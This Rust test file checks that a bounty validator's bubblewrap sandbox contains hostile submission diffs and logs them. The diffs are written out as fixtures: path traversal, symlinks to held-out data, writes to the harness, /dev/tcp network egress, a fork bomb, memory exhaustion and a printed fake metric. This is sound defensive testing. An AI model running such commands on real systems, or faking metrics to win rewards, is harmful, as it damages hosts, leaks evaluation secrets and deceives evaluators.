//! The example bounty evaluated as a validator does, with real bubblewrap and real candle
//! training: an honest improvement is measured, and every hostile diff of the list is
//! contained, yields no false improvement and lands in the exploit log.
//!
//! Needs `bwrap` (`.ci/run` installs Debian's `bubblewrap`); fails, never skips, without it.

// Test fixtures (the `World` helpers) panic on setup failures.
#![allow(clippy::unwrap_used)]

use std::net::TcpListener;
use std::path::{Path, PathBuf};

use l402_node::bounty::agent;
use l402_node::bounty::diff::{self, DiffError};
use l402_node::bounty::example::{self, EvalSet, TinyLmHarness};
use l402_node::bounty::example_bench;
use l402_node::bounty::harness::{
    evaluate, ArtifactError, Evaluation, ExploitClass, ExploitEntry, ExploitLog,
};
use l402_node::bounty::local;
use l402_node::bounty::sandbox::{Isolation, Limits, Policy};

const DIFF_CAP: u64 = 16 * 1024;
/// What every hostile reveal claims: a held-out loss far below anything this model reaches.
const FAKE_CLAIM: i64 = 1_000;

struct World {
    _dir: tempfile::TempDir,
    baseline: PathBuf,
    heldout_path: PathBuf,
    harness_path: PathBuf,
    heldout: Vec<u8>,
    iso: Isolation,
    log: ExploitLog,
}

impl World {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let baseline = dir.path().join("baseline");
        example::write_baseline(&baseline).unwrap();
        // The validator's secrets and code live outside the candidate's tree.
        std::fs::create_dir_all(dir.path().join("validator")).unwrap();
        let heldout = EvalSet::generate(&[7; 32], example::EVAL_ROWS).encode();
        let heldout_path = dir.path().join("validator/heldout.eval");
        std::fs::write(&heldout_path, &heldout).unwrap();
        let harness_path = dir.path().join("validator/harness.bin");
        std::fs::write(&harness_path, b"the validator's harness").unwrap();
        let iso = Isolation::detect(Policy::RequireBubblewrap)
            .expect("bubblewrap must be installed (.ci/run installs Debian's bubblewrap)");
        let log = ExploitLog::new(dir.path().join("validator/exploits.jsonl"));
        Self {
            baseline,
            heldout_path,
            harness_path,
            heldout,
            iso,
            log,
            _dir: dir,
        }
    }

    fn eval(&self, diff: Option<&str>, limits: Limits, claim: Option<i64>) -> Evaluation {
        let bench = example_bench(
            &self.baseline,
            Path::new(env!("CARGO_BIN_EXE_l402-node")),
            DIFF_CAP,
            limits,
        );
        let mut ev = evaluate(
            &self.iso,
            &bench,
            &TinyLmHarness,
            diff.map(str::as_bytes),
            &self.heldout,
        )
        .unwrap();
        if let Some(c) = claim {
            ev.check_claim(c, true, 0);
        }
        if let Some(e) = ExploitEntry::of(&ev, "tiny-lm", Some("agent".into()), 0) {
            self.log.record(&e).unwrap();
        }
        ev
    }

    fn baseline_file(&self, name: &str) -> String {
        std::fs::read_to_string(self.baseline.join(name)).unwrap()
    }

    /// A diff replacing `run.sh` with `script`.
    fn run_sh(&self, script: &str) -> String {
        diff::make("run.sh", &self.baseline_file("run.sh"), script)
    }
}

/// Which exploit class a hostile case must show.
type Expect = fn(&ExploitClass) -> bool;

/// Hostile runs get tighter caps so the loop and the fork bomb end quickly.
fn hostile_limits() -> Limits {
    Limits {
        cpu_secs: 4,
        wall_secs: 8,
        memory_bytes: 512 << 20,
        processes: 32,
        ..Limits::default()
    }
}

const TRAIN: &str = "exec \"$L402_NODE\" bounty train --config train.toml --out out\n";

#[test]
fn honest_improvement_is_measured_and_hostile_diffs_are_contained_and_logged() {
    let w = World::new();
    let base = w.eval(None, Limits::default(), None);
    assert!(base.exploits.is_empty(), "{base:?}");
    assert!(base.sandboxed);
    let b = base.metric.expect("baseline scored");
    // A new leader must beat the baseline by 1%.
    let margin = b / 100;
    let no_false_improvement = |ev: &Evaluation, what: &str| {
        if let Some(m) = ev.metric {
            assert!(
                m > b - margin,
                "{what}: false improvement {m} vs baseline {b}"
            );
        }
    };

    // An honest diff to the training config: more steps, a higher learning rate.
    let better = w
        .baseline_file("train.toml")
        .replace("steps = 12 ", "steps = 40 ")
        .replace("lr = 0.0005 ", "lr = 0.004  ");
    let honest = w.eval(
        Some(&diff::make(
            "train.toml",
            &w.baseline_file("train.toml"),
            &better,
        )),
        Limits::default(),
        None,
    );
    let h = honest.metric.expect("improvement scored");
    assert!(honest.exploits.is_empty(), "{honest:?}");
    assert!(h < b - margin, "improvement {h} vs baseline {b}");
    // The agent claims exactly what it measured on its side: reproduced, nothing logged.
    let mut again = honest.clone();
    again.check_claim(h, true, 0);
    assert!(again.exploits.is_empty());

    let host_listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = host_listener.local_addr().unwrap().port();
    host_listener.set_nonblocking(true).unwrap();
    let heldout = w.heldout_path.display().to_string();
    let harness = w.harness_path.display().to_string();
    let harness_before = std::fs::read(&w.harness_path).unwrap();
    let heldout_before = std::fs::read(&w.heldout_path).unwrap();

    let cases: Vec<(&str, String, Expect)> = vec![
        (
            "path traversal",
            "--- a/../validator/heldout.eval\n+++ b/../validator/heldout.eval\n@@ -1 +1 @@\n-x\n+y\n"
                .to_owned(),
            |c| matches!(c, ExploitClass::DiffRefused { error: DiffError::Traversal(_) }),
        ),
        (
            "symlink in the diff",
            format!(
                "diff --git a/run.sh b/run.sh\nnew file mode 120000\n--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+{heldout}\n"
            ),
            |c| matches!(c, ExploitClass::DiffRefused { error: DiffError::ModeChange(_) }),
        ),
        (
            "symlink out of the tree as the artifact",
            w.run_sh(&format!("mkdir -p out && ln -s {heldout} out/model.safetensors\n")),
            |c| {
                matches!(c, ExploitClass::ArtifactRefused { error: ArtifactError::NotRegular(_) })
            },
        ),
        (
            "writing to the harness and the held-out set",
            w.run_sh(&format!(
                "echo pwned > \"$L402_NODE\" || true\necho pwned > {harness} || true\necho pwned > {heldout} || true\n{TRAIN}"
            )),
            |c| matches!(c, ExploitClass::WriteDenied),
        ),
        (
            "reading the held-out set",
            w.run_sh(&format!(
                "cat {heldout} > stolen.eval || true\ntest -s stolen.eval && echo LEAKED\n{TRAIN}"
            )),
            |c| matches!(c, ExploitClass::ClaimNotReproduced { .. }),
        ),
        (
            "network egress",
            w.run_sh(&format!(
                "bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}' || true\n{TRAIN}"
            )),
            |c| matches!(c, ExploitClass::NetworkDenied),
        ),
        (
            "fork bomb",
            w.run_sh("f() { f | f & }\nf\nsleep 30\n"),
            |c| matches!(c, ExploitClass::ProcessLimit | ExploitClass::WallTimeout),
        ),
        (
            "memory exhaustion",
            w.run_sh("awk 'BEGIN { s = \"xxxxxxxxxx\"; while (1) s = s s }'\n"),
            |c| matches!(c, ExploitClass::MemoryLimit),
        ),
        (
            "infinite loop",
            w.run_sh("while :; do :; done\n"),
            |c| matches!(c, ExploitClass::CpuLimit | ExploitClass::WallTimeout),
        ),
        (
            "printing a fake metric",
            w.run_sh(
                "\"$L402_NODE\" bounty train --config train.toml --out out\necho 'heldout_loss: 0.001'\necho '{\"metric\": 1000}' > out/metric.json\n",
            ),
            |c| matches!(c, ExploitClass::ClaimNotReproduced { .. }),
        ),
        (
            "diff over the size cap",
            w.run_sh(&format!("# {}\n{TRAIN}", "x".repeat(DIFF_CAP as usize))),
            |c| matches!(c, ExploitClass::DiffRefused { error: DiffError::TooLarge { .. } }),
        ),
    ];
    let procs_before = count_processes();
    for (what, diff, expected) in &cases {
        let ev = w.eval(Some(diff), hostile_limits(), Some(FAKE_CLAIM));
        eprintln!(
            "{what}: metric {:?}, exploits {:?}, wall {:?} ms",
            ev.metric,
            ev.exploits,
            ev.candidate.as_ref().map(|c| c.wall_ms)
        );
        no_false_improvement(&ev, what);
        assert!(
            ev.exploits.iter().any(expected),
            "{what}: expected class not found in {:?} (stderr: {:?})",
            ev.exploits,
            ev.candidate.as_ref().map(|c| &c.stderr)
        );
        if *what == "reading the held-out set" {
            let out = ev.candidate.as_ref().unwrap();
            assert!(!out.stdout.contains("LEAKED"), "{out:?}");
            assert!(out.stderr.contains("No such file or directory"), "{out:?}");
        }
    }
    // Nothing reached the host: no connection, harness and held-out set unchanged, no process
    // of the fork bomb left behind.
    // (The listener is non-blocking: any connection made is waiting in its backlog.)
    assert!(
        host_listener.accept().is_err(),
        "the sandbox reached the host's loopback"
    );
    assert_eq!(std::fs::read(&w.harness_path).unwrap(), harness_before);
    assert_eq!(std::fs::read(&w.heldout_path).unwrap(), heldout_before);
    assert!(
        count_processes() <= procs_before + 4,
        "processes left behind: {} before, {} after",
        procs_before,
        count_processes()
    );

    // Every hostile diff is in the log, in order, with its class.
    let entries = w.log.entries().unwrap();
    assert_eq!(entries.len(), cases.len(), "{entries:#?}");
    for ((what, _, expected), e) in cases.iter().zip(&entries) {
        assert!(e.classes.iter().any(expected), "{what}: {e:?}");
        assert_eq!(e.agent.as_deref(), Some("agent"));
    }
}

/// The reference agent climbs on the public set; its diff improves the held-out metric too.
#[test]
fn reference_agent_finds_an_improvement_that_holds_out() {
    let w = World::new();
    let bench = example_bench(
        &w.baseline,
        Path::new(env!("CARGO_BIN_EXE_l402-node")),
        DIFF_CAP,
        Limits::default(),
    );
    let public = EvalSet::generate(&example::public_seed(), example::EVAL_ROWS).encode();
    let config = agent::AgentConfig {
        max_iterations: 12,
        patience: 6,
        min_gain: 1_000,
        seed: 1,
        propose_cmd: None,
        lower_is_better: true,
    };
    let report = agent::run(
        &w.iso,
        &bench,
        &TinyLmHarness,
        &public,
        &config,
        &indicatif::ProgressBar::hidden(),
    )
    .unwrap();
    eprintln!("{:#?}", report.steps);
    assert!(
        report.best_metric < report.baseline_metric - 10_000,
        "{report:?}"
    );
    assert!(report.steps.iter().any(|s| s.kept));
    let base = w.eval(None, Limits::default(), None).metric.unwrap();
    let held = w.eval(Some(&report.diff), Limits::default(), None);
    assert!(held.exploits.is_empty(), "{held:?}");
    assert!(
        held.metric.unwrap() < base - base / 100,
        "{held:?} vs {base}"
    );

    // The hook: an external command proposes the edit (here, sed raising the step count).
    let hooked = agent::run(
        &w.iso,
        &bench,
        &TinyLmHarness,
        &public,
        &agent::AgentConfig {
            max_iterations: 2,
            patience: 1,
            propose_cmd: Some("sed -i 's/^steps = [0-9]*/steps = 30/' train.toml".into()),
            ..config
        },
        &indicatif::ProgressBar::hidden(),
    )
    .unwrap();
    assert!(hooked.steps[0].kept, "{hooked:?}");
    assert!(hooked.diff.contains("+steps = 30"), "{}", hooked.diff);
}

/// The award flow on one machine: the agent's improvement is paid in tranches with a holdback,
/// the later copy of its diff earns nothing, the follow-up is measured against the new leader and
/// decided by the margin (improvements stack), and the
/// cheater's printed metric earns nothing and lands in the exploit log.
#[test]
fn local_award_flow() {
    use l402_protocol::bounty::Decision;
    let dir = tempfile::tempdir().unwrap();
    let iso = Isolation::detect(Policy::RequireBubblewrap).unwrap();
    let args = local::LocalArgs {
        out: dir.path().into(),
        validators: 2,
        agent_iterations: 8,
        seed: 1,
    };
    let r = local::run_local(&iso, &args, Path::new(env!("CARGO_BIN_EXE_l402-node"))).unwrap();
    local::print(&r);
    let d: Vec<_> = r.entries.iter().map(|e| e.decision.clone()).collect();
    let Some(Decision::Award(a)) = &d[0] else {
        panic!("{d:?}")
    };
    assert!(a.tranches >= 1 && a.holdback_msat == (a.primary_msat + a.holdback_msat) / 5);
    assert!(matches!(d[1], Some(Decision::Copy { .. })), "{d:?}");
    let leader = r.entries[0].metric.unwrap();
    let follow = r.entries[2].metric.unwrap();
    match &d[2] {
        Some(Decision::BelowMargin {
            improvement,
            margin,
        }) => {
            assert_eq!(*improvement, leader - follow);
            assert!(improvement < margin);
        }
        Some(Decision::Award(f)) => assert!(f.improvement >= 20_000),
        other => panic!("{other:?}"),
    }
    assert!(matches!(d[3], Some(Decision::BelowMargin { .. })), "{d:?}");
    assert!(r.entries[3]
        .exploits
        .iter()
        .any(|c| matches!(c, ExploitClass::ClaimNotReproduced { .. })));
    let awards: Vec<_> = d
        .iter()
        .filter_map(|x| match x {
            Some(Decision::Award(a)) => Some(a),
            _ => None,
        })
        .collect();
    assert_eq!(
        r.primary_msat,
        awards.iter().map(|a| a.primary_msat).sum::<u64>()
    );
    assert_eq!(
        r.holdback_released_msat + r.holdback_refunded_msat,
        awards.iter().map(|a| a.holdback_msat).sum::<u64>()
    );
    let log = ExploitLog::new(&r.exploit_log).entries().unwrap();
    assert_eq!(log.len(), 1, "{log:?}");
}

fn count_processes() -> usize {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .bytes()
                .all(|b| b.is_ascii_digit())
        })
        .count()
}
